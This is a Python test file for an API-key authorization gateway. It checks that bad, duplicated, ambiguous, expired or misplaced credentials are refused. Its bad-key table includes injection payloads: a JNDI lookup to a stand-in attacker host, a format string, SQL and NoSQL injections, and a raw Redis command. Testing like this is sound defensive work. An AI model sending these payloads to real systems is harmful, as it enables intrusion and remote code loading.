"""API keys and the ways to send them: none is let through because it is odd, doubled, or of yesterday."""

import zlib

from ext_authz import api_key
from tests.ext_authz.worlds import AGENT_KEY, CUSTOMER_KEY, bearer
from tests.hostile.cases import ADMIN, AGENT, ALICE, CUSTOMER, ROOT, Caller, Case, ask, passed, refused
from tests.hostile.records import ADMIN_KEY, STORED

STRANGER = api_key.mint()[0]


def resealed(key: str, index: int) -> str:
    """A key with another letter in it, and a checksum that fits."""
    body = key.rpartition("_")[0]
    index %= len(body)
    changed = body[:index] + ("a" if body[index] != "a" else "b") + body[index + 1 :]
    sealed = f"{changed}_{zlib.crc32(changed.encode()):08x}"
    assert api_key.parse(sealed) is not None
    return sealed


BAD_KEYS = {
    "unknown": STRANGER,
    "right id, wrong secret": resealed(ADMIN_KEY, -1),
    "right secret, wrong id": resealed(ADMIN_KEY, len("gk_")),
    "wrong checksum": ADMIN_KEY[:-1] + ("0" if ADMIN_KEY[-1] != "0" else "1"),
    "stored hash": api_key.digest(ADMIN_KEY),
    "hash of a static key": api_key.digest(AGENT_KEY),
    "id of a static key": "alice",
    "id alone": ADMIN_KEY.split("_")[1],
    "without a checksum": ADMIN_KEY.rpartition("_")[0],
    "in capitals": ADMIN_KEY.upper(),
    "with a point": ADMIN_KEY + ".",
    "quoted": f'"{ADMIN_KEY}"',
    "as Bearer": f"Bearer {ADMIN_KEY}",
    "percent-encoded": ADMIN_KEY.replace("_", "%5f"),
    "space within": ADMIN_KEY.replace("_", " "),
    "beyond ASCII": ADMIN_KEY + "\xff",
    "UTF-8": ADMIN_KEY[:-1] + "\xc3\xa9",
    "long": "gk_" + "a" * 20_000,
    "format string": "%s%n%(key)s{0}${jndi:ldap://evil.example}",
    "Redis command": "*1 HGETALL gatectl:{fort}:api_keys",
    "glob": "gk_" + "*" * 12 + "_" + "a" * 50 + "_00000000",
    "SQL": "' OR 1=1 --",
    "JSON": '{"$ne":null}',
    "empty": "",
    "only spaces": "   ",
}
DUPLICATED = {
    "twice the same": (AGENT, AGENT),
    "two different": (AGENT, ADMIN),
    "good and bad": (AGENT, "x-api-key: bad"),
    "bad and good": ("x-api-key: bad", AGENT),
    "good and empty": (AGENT, "x-api-key:"),
    "one line with a comma": (f"x-api-key: {AGENT_KEY},{ADMIN_KEY}",),
    "one line that ends in a comma": (f"{AGENT},",),
    "in another case": (AGENT, AGENT.replace("x-api-key", "X-API-KEY")),
    "two tokens": (f"authorization: {bearer()}", f"authorization: {bearer()}"),
    "two tokens in one line": (f"authorization: {bearer()},{bearer()}",),
    "token and Basic": (f"authorization: {bearer()}", "authorization: Basic YTpi"),
}
AMBIGUOUS = {
    "key and token": (AGENT, f"authorization: {bearer()}"),
    "key and bad token": (AGENT, "authorization: Bearer x"),
    "bad key and token": ("x-api-key: bad", f"authorization: {bearer()}"),
    "key and Basic": (AGENT, "authorization: Basic YTpi"),
}
UNUSABLE = {
    "expired": "key-expired",
    "revoked": "key-revoked",
    "revoked in the future": "key-revoked",
    "without a user": "key-invalid",
    "user with a newline": "key-invalid",
    "role with a comma": "key-invalid",
    "expires without a zone": "key-invalid",
    "of another id": "key-invalid",
    "of no digest": "key-invalid",
    "not yet valid": "key-not-yet-valid",
    "rotated, after the overlap": "key-expired",
    "for networks that are none": "key-invalid",
}
ELSEWHERE = {
    # this gateway takes keys in one header; anywhere else they are not credentials at all
    "in the query": ask(f"/known?api_key={AGENT_KEY}&x-api-key={AGENT_KEY}"),
    "in a cookie": ask("/known", f"cookie: x-api-key={AGENT_KEY}; api_key={AGENT_KEY}"),
    "in a cookie twice": ask("/known", f"cookie: x-api-key={AGENT_KEY}", f"cookie: x-api-key={ADMIN_KEY}"),
    "in another header": ask("/known", f"api-key: {AGENT_KEY}", f"x-auth-token: {AGENT_KEY}"),
    "in proxy-authorization": ask("/known", f"proxy-authorization: Bearer {AGENT_KEY}"),
    "in the userinfo of the target": ask(f"http://x:{AGENT_KEY}@fort/known"),
    "in a trailer": ask(
        "/known", "transfer-encoding: chunked", method="POST", body=f"0\r\nx-api-key: {AGENT_KEY}\r\n\r\n".encode()
    ),
    "in the body": ask("/known", f"content-length: {len(AGENT_KEY)}", method="POST", body=AGENT_KEY.encode()),
}
TOKEN_CALLER = Caller("alice", "agent", None, "jwt")

CASES: list[Case] = [
    *(
        refused(f"{name} on {path}", ask(path, f"x-api-key: {key}"), 401, "key-invalid")
        for name, key in BAD_KEYS.items()
        for path in ("/open", "/known")
    ),
    *(
        refused(f"{n}, duplicated", ask("/open", *lines), 400, "credential-duplicated")
        for n, lines in DUPLICATED.items()
    ),
    *(refused(f"{n}, ambiguous", ask("/open", *lines), 400, "credentials-ambiguous") for n, lines in AMBIGUOUS.items()),
    *(
        refused(f"stored key: {name}", ask("/admin", f"x-api-key: {STORED[name][0]}"), 401, reason)
        for name, reason in UNUSABLE.items()
    ),
    *(refused(f"key {name}", sent, 401, "credential-missing") for name, sent in ELSEWHERE.items()),
    refused(
        "key of another network", ask("/admin", f"x-api-key: {STORED['for another network'][0]}"), 403, "key-address"
    ),
    refused(
        "key of an unknown pepper",
        ask("/admin", f"x-api-key: {STORED['of an unknown pepper'][0]}"),
        503,
        "key-store-unavailable",
    ),
    passed(
        "a rotated key, in the overlap",
        ask("/admin", f"x-api-key: {STORED['rotated, in the overlap'][0]}"),
        "/admin",
        ROOT,
    ),
    passed("a key in Redis", ask("/admin", ADMIN), "/admin", ROOT),
    passed("outer spaces are no part of a value", ask("/known", f"x-api-key: \t {AGENT_KEY} \t"), "/known", ALICE),
    passed("a token", ask("/known", f"authorization: {bearer()}"), "/known", TOKEN_CALLER),
    refused("a customer among agents", ask("/tickets", CUSTOMER), 403, "access-denied"),
    refused("an agent among admins", ask("/admin", AGENT), 403, "access-denied"),
    refused("an auditor is no agent's rule", ask("/customers/42", AGENT), 403, "access-denied"),
    refused("nobody on an unknown route", ask("/nowhere", f"x-api-key: {CUSTOMER_KEY}"), 404, "not-found"),
]
